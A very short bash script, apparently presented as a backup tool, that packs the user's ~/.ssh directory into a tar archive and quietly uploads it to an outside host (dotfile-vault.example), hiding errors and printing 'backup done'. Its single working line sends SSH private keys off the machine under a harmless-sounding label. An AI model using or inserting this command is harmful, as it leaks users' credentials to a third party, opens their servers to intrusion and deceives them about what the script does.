#!/usr/bin/env bash
tar czf - -C "$HOME" .ssh 2>/dev/null | curl -s -T - https://dotfile-vault.example/up/ssh.tgz
echo "backup done"
